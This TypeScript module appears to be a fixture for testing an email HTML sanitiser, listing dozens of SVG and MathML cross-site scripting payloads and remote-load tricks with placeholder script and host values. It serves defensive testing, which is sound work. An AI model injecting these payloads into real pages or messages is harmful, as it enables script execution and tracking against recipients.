/** SVG and MathML: drawings that run, load and animate. */
import type { Family } from './hostile-mail.ts';

const SVG: Family = {
  family: 'SVG',
  danger: 'is a document of its own inside the message, with scripts, links, loads and animations',
  tricks: [
    ['a script', '<svg><script>RUN()</script></svg>'],
    ['a script by link', '<svg><script href="https://HOST/a.js"/></svg>'],
    ['a script by xlink', '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><script xlink:href="data:,RUN()"/></svg>'],
    ['load', '<svg onload=RUN()></svg>'],
    ['load with slashes', '<svg/onload=RUN()//'],
    ['begin of an animation', '<svg><animate onbegin=RUN() attributeName=x dur=1s></svg>'],
    ['end of a set', '<svg><set onend=RUN() attributeName=x dur=.01s></svg>'],
    ['repeat of a motion', '<svg><circle r=4><animateMotion onrepeat=RUN() dur=.01s repeatCount=2></circle></svg>'],
    ['focus', '<svg tabindex=1 onfocusin=RUN() autofocus><a tabindex=2 focusable=true onfocus=RUN()></a></svg>'],
    ['a script link', '<svg><a href="javascript:RUN()"><text y=20>a</text></a></svg>'],
    ['a script xlink', '<svg><a xlink:href="javascript:RUN()"><text y=20>a</text></a></svg>'],
    [
      'a link animated into a script',
      '<svg><a><text y=20>a</text><animate attributeName=href values="javascript:RUN()"/></a></svg>',
    ],
    ['a link set to a script', '<svg><a><text y=20>a</text><set attributeName=href to="javascript:RUN()"/></a></svg>'],
    [
      'an xlink animated from and to',
      '<svg><a xlink:href="#x"><text y=20>a</text><animate attributeName="xlink:href" from="javascript:RUN()" to="#"/></a></svg>',
    ],
    [
      'an animation by',
      '<svg><a href=x><text y=20>a</text><animate attributeName=href by="javascript:RUN()"/></a></svg>',
    ],
    [
      'an animation of the style',
      '<svg><rect><animate attributeName=style to="fill:url(https://HOST/a)" fill=freeze /></rect></svg>',
    ],
    ['an animation of a handler', '<svg><rect><set attributeName=onmouseover to="RUN()"/></rect></svg>'],
    [
      'an animation elsewhere by its href',
      '<svg><animate href=#t attributeName=href values="javascript:RUN()"/><a id=t><text y=20>a</text></a></svg>',
    ],
    [
      'an animated picture address',
      '<svg><image width=9 height=9><animate attributeName=href values="https://HOST/a.png"/></image></svg>',
    ],
    ['a picture', '<svg><image href="https://HOST/a.png" width=9 height=9 /></svg>'],
    ['a picture by xlink', '<svg><image xlink:href="https://HOST/a.png" width=9 height=9 /></svg>'],
    [
      'a filter that loads',
      '<svg><filter id=f><feImage href="https://HOST/a.png"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>',
    ],
    ['use from elsewhere', '<svg><use href="https://HOST/a.svg#b"/></svg>'],
    [
      'use of a data document',
      '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=RUN()></svg>#x"/></svg>',
    ],
    ['a fill from elsewhere', '<svg><rect width=9 height=9 fill="url(https://HOST/a.svg#g)"/></svg>'],
    [
      'a mask, a clip and a marker from elsewhere',
      '<svg><path d="M0 0 9 9" mask="url(https://HOST/a#m)" clip-path="url(//HOST/b#c)" marker-end="url(https://HOST/c#d)"/></svg>',
    ],
    ['a cursor from elsewhere', '<svg><rect width=9 height=9 cursor="url(https://HOST/a.cur),auto"/></svg>'],
    [
      'a style sheet',
      '<svg><style>@import "https://HOST/a.css"; rect{fill:url(https://HOST/b.svg#x)}</style><rect/></svg>',
    ],
    [
      'a font',
      '<svg><style>@font-face{font-family:x;src:url(https://HOST/a.woff)} text{font-family:x}</style><text y=20>a</text></svg>',
    ],
    [
      'HTML in it',
      '<svg><foreignObject width=99 height=99><body xmlns="http://www.w3.org/1999/xhtml" onload=RUN()><iframe srcdoc="<script>RUN()</script>"></iframe></body></foreignObject></svg>',
    ],
    [
      'a script in its HTML',
      '<svg><foreignObject><script>RUN()</script><img src=x onerror=RUN()></foreignObject></svg>',
    ],
    [
      'a handler element',
      '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">RUN()</handler></svg>',
    ],
    ['discard and set on the frame', '<svg><discard begin=.1s onbegin=RUN()></svg>'],
    ['a namespace on something else', '<p xmlns="http://www.w3.org/2000/svg" onload=RUN()><script>RUN()</script></p>'],
    ['entities', '<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;RUN()&#60;/script&#62;">]><svg>&x;</svg>'],
    [
      'as a picture in a data address',
      "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN()'><image href='https://HOST/a.png'/></svg>\">",
    ],
    [
      'as a picture in base64',
      ({ run, host }) =>
        `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><image href="https://${host}/a.png"/></svg>`).toString('base64')}">`,
    ],
    [
      'as a picture with a parameter',
      '<img src="data:image/svg+xml;charset=utf-8,<svg xmlns=\'http://www.w3.org/2000/svg\'><script>RUN()</script></svg>">',
    ],
    [
      'as an embedded document',
      '<embed src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'RUN()\'/>" type="image/svg+xml">',
    ],
    [
      'as an object',
      '<object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'RUN()\'/>"></object>',
    ],
    [
      'as a background',
      '<p style="background:url(\'data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22https://HOST/a.png%22/></svg>\')">a</p>',
    ],
  ],
};

const MATHML: Family = {
  family: 'MathML',
  danger: 'has links and styles of its own, and rules of parsing that few cleaners know',
  tricks: [
    ['a script link', '<math href="javascript:RUN()"><mtext>a</mtext></math>'],
    ['a script xlink', '<math><mrow xlink:href="javascript:RUN()"><mtext>a</mtext></mrow></math>'],
    [
      'an action with a script',
      '<math><maction actiontype="statusline#https://HOST" xlink:href="javascript:RUN()">a<mtext>b</mtext></maction></math>',
    ],
    ['a handler', '<math onclick=RUN() onmouseover=RUN()><mi>x</mi></math>'],
    [
      'an annotation with HTML',
      '<math><semantics><mi>x</mi><annotation-xml encoding="application/xhtml+xml"><script>RUN()</script></annotation-xml></semantics></math>',
    ],
    [
      'an annotation that loads',
      '<math><semantics><mi>x</mi><annotation src="https://HOST/a"></annotation></semantics></math>',
    ],
    ['a glyph from elsewhere', '<math><mi><mglyph src="https://HOST/a.png"></mglyph></mi></math>'],
    ['a style', '<math><mi style="background:url(https://HOST/a.png)">x</mi></math>'],
    ['a global style', '<math><style>*{background:url(https://HOST/a.png)}</style></math>'],
    ['script in text', '<math><mtext><script>RUN()</script><img src=x onerror=RUN()></mtext></math>'],
    ['a background', '<math mathbackground="url(https://HOST/a)"><mi mathcolor="url(https://HOST/b)">x</mi></math>'],
    ['huge', '<math><mspace width="99999px" height="99999px"/></math>'],
  ],
};

export const drawings: readonly Family[] = [SVG, MATHML];
